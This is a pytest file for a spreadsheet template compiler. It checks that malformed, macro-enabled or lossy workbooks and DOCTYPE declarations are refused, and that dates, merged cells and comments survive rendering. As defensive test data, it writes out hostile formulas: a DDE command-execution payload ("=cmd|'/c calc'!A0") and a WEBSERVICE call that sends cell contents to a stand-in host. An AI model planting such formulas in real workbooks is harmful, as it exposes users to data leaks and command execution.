"""The file of a workbook: what is no workbook or would be lost is refused; dates, merged cells and notes stay."""

from __future__ import annotations

import datetime
import io
import re
from typing import Any

import openpyxl
import pytest
from openpyxl.comments import Comment
from openpyxl.packaging.custom import StringProperty

from congvan.core.messages import Message
from congvan.core.opc.writer import deflate, write_zip
from congvan.core.problems import Problem, ProblemsFound
from congvan.formats.xlsx.template import compile_template
from congvan.formats.xlsx.workbook import UNSUPPORTED_PARTS
from tests.formats.docx_samples import docx, p
from tests.formats.xlsx_samples import workbook
from tests.package import parts_of, zipped


def changed(name: str, old: str, new: str, data: bytes | None = None) -> bytes:
    """The workbook with one part changed, or one more part."""
    parts = parts_of(data or workbook({"A1": "x"}))
    if old:
        assert old.encode() in parts[name]
    parts[name] = parts.get(name, b"").replace(old.encode(), new.encode()) if old else new.encode()
    return zipped(parts)


def refused(data: bytes) -> Problem:
    with pytest.raises(ProblemsFound) as stop:
        compile_template(data, name="mau.xlsx")
    (problem,) = stop.value.problems
    assert problem.place.file == "mau.xlsx"
    return problem


def remedy(problem: Problem) -> str:
    """The id of a remedy."""
    return problem.advice.id if problem.advice else ""


@pytest.mark.parametrize(
    ("data", "why"),
    [
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "old"),
        (b"", "other"),
        (b"P", "other"),
        (docx(p("x")), "other"),
        (write_zip([deflate("a", b"1")]), "other"),
        (changed("[Content_Types].xml", "sheet.main+xml", "template.main+xml"), "other"),
        (changed("[Content_Types].xml", "sheet.main+xml", "macroEnabled"), "macros"),
    ],
)
def test_a_file_that_is_no_workbook_is_refused_with_a_remedy(data: bytes, why: str) -> None:
    problem = refused(data)
    assert problem.message == Message(f"workbook-refused.{why}")
    assert remedy(problem) == f"workbook-refused.{why}.hint"


@pytest.mark.parametrize(("part", "name"), UNSUPPORTED_PARTS.items())
def test_what_would_be_lost_in_silence_is_named(part: str, name: str) -> None:
    problem = refused(changed(f"{part}1.xml", "", "<x/>"))
    assert problem.message == Message("workbook-refused.lost", parts=Message(f"workbook-part.{name}"))
    assert remedy(problem) == "workbook-refused.lost.hint"


def test_all_that_would_be_lost_is_named_at_once() -> None:
    data = changed("xl/charts/chart1.xml", "", "<x/>", changed("xl/tables/table1.xml", "", "<x/>"))
    with pytest.raises(ProblemsFound) as stop:
        compile_template(data, name="mau.xlsx")
    assert [problem.message.values["parts"] for problem in stop.value.problems] == [
        Message("workbook-part.charts"),
        Message("workbook-part.tables"),
    ]


def extension(uri: str) -> bytes:
    return changed("xl/worksheets/sheet1.xml", "</worksheet>", f'<extLst><ext uri="{{{uri}}}"/></extLst></worksheet>')


def test_what_openpyxl_warns_that_it_drops_is_refused() -> None:
    problem = refused(extension("CCE6A557-97BC-4B89-ADB6-D9C93CAAB3DF"))
    assert (problem.message.id, remedy(problem)) == ("workbook-refused.lost", "workbook-refused.lost.hint")
    assert str(problem.message.values["parts"]).startswith("Data Validation extension")
    for harmless in ("01252117-D84E-4E92-8308-4BE1C098FCBB", "00000000-0000-0000-0000-000000000000"):
        assert compile_template(extension(harmless))


def test_a_part_that_declares_a_document_type_is_refused() -> None:
    for part in ("xl/evil.xml", "xl/_rels/evil.rels"):
        problem = refused(changed(part, "", f"<?xml version='1.0'?>{' ' * 1900}<!DOCTYPE x><x/>"))
        assert problem.message == Message("workbook-refused.doctype", part=part)
    assert compile_template(changed("xl/evil.txt", "", "<!DOCTYPE x><x/>"))


def test_a_workbook_that_can_not_be_read_is_refused_with_a_remedy() -> None:
    problem = refused(changed("xl/worksheets/sheet1.xml", "<sheetData>", "<sheetData><row><c><v>"))
    assert (problem.message.id, remedy(problem)) == ("workbook-broken.unreadable", "workbook-broken.hint")
    assert len(problem.text) < 250


def test_a_workbook_without_a_sheet_of_cells_is_refused() -> None:
    book = parts_of(workbook({"A1": "x"}))["xl/workbook.xml"].decode()
    (sheet,) = re.findall(r"<sheet .*?/>", book)
    problem = refused(changed("xl/workbook.xml", sheet, ""))
    assert problem.message == Message("workbook-broken.workbook-sheet")


def core(data: bytes) -> dict[str, str]:
    return dict(re.findall(r"<dcterms:(\w+)[^>]*>([^<]*)", parts_of(data)["docProps/core.xml"].decode()))


def test_the_dates_are_those_of_the_template() -> None:
    def prepare(book: Any, sheet: Any) -> None:
        book.properties.title = "{{ x }}"
        book.custom_doc_props.append(StringProperty(name="so", value="{{ x }}"))
        sheet.merge_cells("B1:C1")
        book.properties.created = datetime.datetime(2020, 8, 19, 1, 2, 3)
        book.properties.modified = datetime.datetime(2021, 8, 19, 1, 2, 3)

    given = workbook({"A1": "{{ x }}"}, prepare)
    dated = core(given)
    assert dated["created"] == "2020-08-19T01:02:03Z"
    assert core(compile_template(given).render({"x": 1})) == dated


def test_a_template_without_dates_has_the_first_day_of_a_zip() -> None:
    given = workbook({"A1": "{{ x }}"})
    bare = parts_of(given)["docProps/core.xml"].decode()
    for name in core(given):
        bare = re.sub(f"<dcterms:{name}.*?</dcterms:{name}>", "", bare)
    template = compile_template(changed("docProps/core.xml", "", bare, given))
    assert set(core(template.render({"x": 1})).values()) == {"1980-01-01T00:00:00Z"}


def test_merged_cells_stand_from_top_to_bottom_and_from_left_to_right() -> None:
    order = ["A1:A2", "B1:B2", "C1:C2", "Z1:Z2", "AA1:AA2", "AB1:AB2", "BA1:BA2", "A3:B4", "D3:E4", "F3:F9", "A10:B10"]

    def prepare(book: Any, sheet: Any) -> None:
        for area in reversed(order):
            sheet.merge_cells(area)

    template = compile_template(workbook({"A1": "{{ x }}"}, prepare))
    for data in (template.render({"x": 1}), template.render_plainly({"x": 1})):
        xml = parts_of(data)["xl/worksheets/sheet1.xml"].decode()
        assert re.findall(r'<mergeCell ref="(.*?)"/>', xml) == order


def test_notes_and_private_characters_of_a_template_stay() -> None:
    def prepare(book: Any, sheet: Any) -> None:
        sheet["B1"].comment = Comment("ghi chú \ue000", "mẫu")

    template = compile_template(workbook({"A1": "{{ x }}", "B1": "\ue000 \ue001 7\ue002 đ"}, prepare))
    sheet = openpyxl.load_workbook(io.BytesIO(template.render({"x": "\ue0007\ue000"}))).active
    assert [cell.value for cell in sheet[1]] == ["\ue0007\ue000", "\ue000 \ue001 7\ue002 đ"]
    assert sheet["B1"].comment.text == "ghi chú \ue000"


@pytest.mark.parametrize(
    ("formula", "found"),
    [
        ('=WEBSERVICE("https://vidu.vn/?"&A2)', "WEBSERVICE"),
        ('=IF(A2="",1,_xlfn.webservice(A3))', "webservice"),
        ('=_xlfn.IMAGE("https://vidu.vn/a.png")', "IMAGE"),
        ("=cmd|'/c calc'!A0", "cmd|"),
        ('=RTD("a",,"b")', "RTD"),
    ],
)
def test_a_formula_that_reaches_out_is_refused_with_its_cell(formula: str, found: str) -> None:
    problem = refused(workbook({"A1": "x", "B3": formula}))
    assert (problem.message.id, problem.place.cell) == ("workbook-refused.formula", "B3")
    assert problem.message.values["found"] == found
    assert problem.hint


def test_a_formula_that_reaches_out_is_found_in_rules_and_names() -> None:
    from openpyxl.formatting.rule import FormulaRule
    from openpyxl.workbook.defined_name import DefinedName
    from openpyxl.worksheet.datavalidation import DataValidation

    book = openpyxl.load_workbook(io.BytesIO(workbook({"A1": "x"})))
    rule = DataValidation(type="custom", formula1='WEBSERVICE("a")=1')
    rule.add("A2")
    book.active.add_data_validation(rule)
    book.active.conditional_formatting.add("A3", FormulaRule(['WEBSERVICE("a")=1']))
    book.defined_names["ten"] = DefinedName("ten", attr_text='WEBSERVICE("a")')
    out = io.BytesIO()
    book.save(out)
    with pytest.raises(ProblemsFound) as stop:
        compile_template(out.getvalue(), name="mau.xlsx")
    assert [problem.message.id for problem in stop.value.problems] == ["workbook-refused.formula"] * 3
    assert {getattr(problem.place.where, "id", "") for problem in stop.value.problems} == {
        "at.validation",
        "at.condition",
        "at.defined-name",
    }


@pytest.mark.parametrize("formula", ['=HYPERLINK("#A1","WEBSERVICE(a|b)")', "=SUM(A1:A2)", '="a|b"&IMAGINARY("1+i")'])
def test_other_formulas_pass(formula: str) -> None:
    assert compile_template(workbook({"A1": "x", "B3": formula})).render({})
